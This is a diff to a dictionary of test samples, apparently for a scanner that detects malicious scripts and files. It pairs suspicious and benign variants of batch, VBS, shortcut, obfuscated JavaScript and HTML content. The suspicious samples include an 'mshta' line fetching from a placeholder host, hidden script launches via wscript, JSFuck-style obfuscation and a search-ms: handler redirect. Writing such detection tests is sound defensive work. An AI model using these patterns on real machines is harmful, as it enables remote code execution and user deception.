@@ -31,10 +31,11 @@ SAMPLES: dict[str, tuple[str, str | bytes, str | bytes]] = {
     "execute.direct": (
         "a.bat",
         "mshta http://example.invalid/a",
-        "rem " + "x" * 4000 + "\nmshta http://example.invalid/a",
+        "echo " + "x" * 4000 + "\nmshta http://example.invalid/a",
     ),
     "execute.unnamed": ("a.vbs", "Set s = CreateObject(f(1))\ns.Run x", 'Set s = CreateObject("a.b")\ns.Run x'),
     "execute.link": ("a.lnk", shortcut("wscript.exe", "hidden\\a.js"), shortcut("wscript.exe", "C:\\tools\\a.js")),
+    "execute.encoded": ("a.js", "[][(![]+[])[+[]]]" * 30, "a=[][(![]+[])[+[]]]"),
     "execute.handler": (
         "a.html",
         "<html><script>location='search-ms:query=a&crumb=location:x'</script>",
